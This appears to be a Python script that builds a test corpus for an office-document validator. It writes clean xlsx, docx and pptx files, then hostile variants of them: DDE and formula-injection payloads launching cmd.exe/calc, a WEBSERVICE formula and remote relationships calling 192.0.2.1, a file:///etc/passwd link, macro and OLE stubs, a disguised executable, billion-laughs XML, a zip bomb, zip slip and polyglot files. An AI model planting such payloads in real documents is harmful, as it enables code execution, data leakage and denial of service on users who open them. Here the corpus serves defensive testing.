# SPDX-License-Identifier: GPL-2.0-or-later
# office-corpus.py - the payload of tests/e2e/outputs-office.sh: office
# documents as agent scripts write them (openpyxl, xlsxwriter, python-docx,
# pandas' to_excel), and a hostile corpus built from them with zipfile.
# Writes everything into the directory named by its first argument
# (/work/out inside the sandbox).  Each hostile file changes one thing of
# a valid document, so its rejection can only be for that thing.
import io
import os
import struct
import sys
import zipfile
import zlib

import docx
import openpyxl
import pandas as pd
import xlsxwriter

out = sys.argv[1] if len(sys.argv) > 1 else "/work/out"
os.makedirs(out, exist_ok=True)


def path(name):
    return os.path.join(out, name)


# --- what agent scripts write ----------------------------------------------
wb = openpyxl.Workbook()
ws = wb.active
ws.append(["region", "total"])
ws.append(["north", 3])
ws.append(["south", -4])
ws["D1"] = "report"
ws["D1"].hyperlink = "https://example.org/report"
wb.save(path("openpyxl.xlsx"))

wb = openpyxl.Workbook()
wb.active["A1"] = 1
wb.active["A2"] = "=SUM(A1:A1)"
wb.save(path("formula.xlsx"))

wb = openpyxl.Workbook()
wb.active["A1"] = "  @SUM(1+1)*cmd|' /C calc'!A0"
wb.save(path("at-string.xlsx"))

w = xlsxwriter.Workbook(path("xlsxwriter.xlsx"))
s = w.add_worksheet()
s.write_column(0, 0, [1, 2, 3])
s.write_string(0, 1, "plain text")
chart = w.add_chart({"type": "bar"})
chart.add_series({"values": "=Sheet1!$A$1:$A$3"})
s.insert_chart("C1", chart)
w.close()

w = xlsxwriter.Workbook(path("webservice.xlsx"))
w.add_worksheet().write_formula(0, 0, '=WEBSERVICE("http://192.0.2.1/?"&A2)')
w.close()

pd.DataFrame({"region": ["north", "south"], "total": [3, 1]}).to_excel(
    path("pandas.xlsx"), index=False)

d = docx.Document()
d.add_heading("Totals", 0)
d.add_paragraph("North sold 3, south 1.")
t = d.add_table(rows=2, cols=2)
t.cell(0, 0).text = "north"
t.cell(0, 1).text = "3"
d.save(path("python-docx.docx"))


# --- the hostile corpus: a valid package with one change -----------------------
def members(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i, z.read(i.filename)) for i in z.infolist()]


def rezip(name, entries, mode="w"):
    with zipfile.ZipFile(path(name), mode, zipfile.ZIP_DEFLATED) as z:
        for info, data in entries:
            if isinstance(info, str):
                info = zipfile.ZipInfo(info)
                info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)


def change(base, name, edits=None, add=(), drop=()):
    """Copy base with part edits (name -> function of bytes), parts added."""
    edits = edits or {}
    entries = []
    for info, data in members(base):
        if info.filename in drop:
            continue
        if info.filename in edits:
            data = edits[info.filename](data)
        entries.append((info, data))
    rezip(name, entries + list(add))


def sub(old, new):
    return lambda data: data.replace(old, new, 1)


XLSX = open(path("openpyxl.xlsx"), "rb").read()
DOCX = open(path("python-docx.docx"), "rb").read()
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
REL = b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/>'


def add_rel(part_rels, kind, target, external=False):
    rel = REL % (kind.encode(), target.encode(), b' TargetMode="External"' if external else b"")
    return {part_rels: sub(b"</Relationships>", rel + b"</Relationships>")}


# Macros: a VBA project, referenced as Excel does it.
change(XLSX, "macro.xlsx", edits={
    "[Content_Types].xml": sub(
        b"sheet.main+xml", b"sheet.main+xml\"/><Default Extension=\"bin\" "
        b"ContentType=\"application/vnd.ms-office.vbaProject"),
    **add_rel("xl/_rels/workbook.xml.rels", "vbaProject", "vbaProject.bin")},
    add=[("xl/vbaProject.bin", OLE2)])
# ... the workbook's content type says macro-enabled (an .xlsm renamed).
change(XLSX, "xlsm-renamed.xlsx", edits={
    "[Content_Types].xml": sub(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                               b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")})
# ... or only the project, unreferenced, under another name.
change(XLSX, "ole-as-image.xlsx", add=[("xl/media/image1.png", OLE2)])
# External relationships: a remote image, a remote template.
change(DOCX, "remote-image.docx",
       edits=add_rel("word/_rels/document.xml.rels", "image", "http://192.0.2.1/beacon.png", True))
change(DOCX, "remote-template.docx",
       edits=add_rel("word/_rels/document.xml.rels", "attachedTemplate", "http://192.0.2.1/t.dotm", True))
change(XLSX, "file-link.xlsx",
       edits=add_rel("xl/worksheets/_rels/sheet1.xml.rels", "hyperlink", "file:///etc/passwd", True))
# DDE: a field code split across runs, and a simple field.
RUN = b"<w:r><w:instrText>%s</w:instrText></w:r>"
dde = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + RUN % b" DD" + RUN % b'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
       + b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
       + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
change(DOCX, "dde.docx", edits={"word/document.xml": sub(b"<w:body>", b"<w:body>" + dde)})
change(DOCX, "dde-simple.docx", edits={"word/document.xml": sub(
    b"<w:body>", b'<w:body><w:p><w:fldSimple w:instr=\' DDE "cmd" "/c calc"\'/></w:p>')})
# OLE objects and ActiveX controls.
change(DOCX, "ole.docx", add=[("word/embeddings/oleObject1.bin", OLE2)])
change(XLSX, "activex.xlsx", add=[("xl/activeX/activeX1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>')])
# An executable dressed as an image.
change(DOCX, "exe.docx", add=[("word/media/image1.png", b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0")])
# A DTD with entities (billion laughs) in a part.
laughs = (b'<?xml version="1.0"?><!DOCTYPE cp [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
          b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><cp>&c;</cp>')
change(XLSX, "laughs.xlsx", edits={"docProps/core.xml": lambda _: laughs})
# A zip bomb: a part that inflates 1000:1.
change(XLSX, "bomb.xlsx", add=[("xl/worksheets/sheet9.xml", b"<a>" + b" " * (40 << 20) + b"</a>")])
# Zip slip, duplicate names, an encrypted entry, too many entries.
change(XLSX, "slip.xlsx", add=[("../../evil.xml", b"<a/>")])
change(XLSX, "dup.xlsx", add=[("XL/Workbook.xml", b"<a/>")])
change(XLSX, "encrypted.xlsx", add=[("xl/secret.xml", b"<a/>")])
# zipfile writes no encryption: set the flag in both headers of the entry.
data = bytearray(open(path("encrypted.xlsx"), "rb").read())
for sig, flags_at, name_at in ((b"PK\3\4", 6, 30), (b"PK\1\2", 8, 46)):
    at = data.find(sig)
    while at >= 0:
        if data[at + name_at:at + name_at + 13] == b"xl/secret.xml":
            data[at + flags_at] |= 1
        at = data.find(sig, at + 4)
open(path("encrypted.xlsx"), "wb").write(data)
change(XLSX, "many.xlsx", add=[("xl/p/%d.xml" % i, b"<a/>") for i in range(10001)])
# Polyglots: a zip behind a prefix the central directory skips (the first
# local header is not at 0), and a PNG with a ZIP appended.
hidden = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 4, 4, 4, 0) + b"evil" + b"MZ!!"
with open(path("prefix.xlsx"), "wb") as f:
    f.write(hidden)
rezip("prefix.xlsx", [(i, d) for i, d in members(XLSX)], mode="a")


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
       + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b""))
with open(path("polyglot.png"), "wb") as f:
    f.write(png + XLSX)
with open(path("png-named.xlsx"), "wb") as f:
    f.write(png + XLSX)
# Not what the name says: a ZIP of CSVs, a Word document named .xlsx.
with zipfile.ZipFile(path("csvs.xlsx"), "w") as z:
    z.writestr("a.csv", "x,y\n1,2\n")
with open(path("doc-named.xlsx"), "wb") as f:
    f.write(DOCX)

# --- pptx: no Debian library writes one, so a minimal deck by hand ------------
PML = "http://schemas.openxmlformats.org/presentationml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT = "application/vnd.openxmlformats-officedocument.presentationml"


def deck(name, shape=""):
    rezip(name, [
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/ppt/presentation.xml" ContentType="%s.presentation.main+xml"/>'
         '<Override PartName="/ppt/slides/slide1.xml" ContentType="%s.slide+xml"/></Types>' % (CT, CT)),
        ("_rels/.rels",
         '<?xml version="1.0"?><Relationships xmlns="%s"><Relationship Id="rId1" '
         'Type="%s/officeDocument" Target="ppt/presentation.xml"/></Relationships>' % (RELS, R)),
        ("ppt/presentation.xml",
         '<?xml version="1.0"?><p:presentation xmlns:p="%s" xmlns:r="%s"><p:sldIdLst>'
         '<p:sldId id="256" r:id="rId1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/>'
         '<p:notesSz cx="6858000" cy="9144000"/></p:presentation>' % (PML, R)),
        ("ppt/_rels/presentation.xml.rels",
         '<?xml version="1.0"?><Relationships xmlns="%s"><Relationship Id="rId1" '
         'Type="%s/slide" Target="slides/slide1.xml"/></Relationships>' % (RELS, R)),
        ("ppt/slides/slide1.xml",
         '<?xml version="1.0"?><p:sld xmlns:p="%s" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
         '<p:cSld><p:spTree>%s</p:spTree></p:cSld></p:sld>' % (PML, shape)),
    ])


deck("deck.pptx", '<p:sp><p:txBody><a:p><a:r><a:t>Totals</a:t></a:r></a:p></p:txBody></p:sp>')
deck("action.pptx", '<p:sp><p:nvSpPr><p:cNvPr id="2" name="b"><a:hlinkClick r:id="" '
     'xmlns:r="%s" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>' % R)
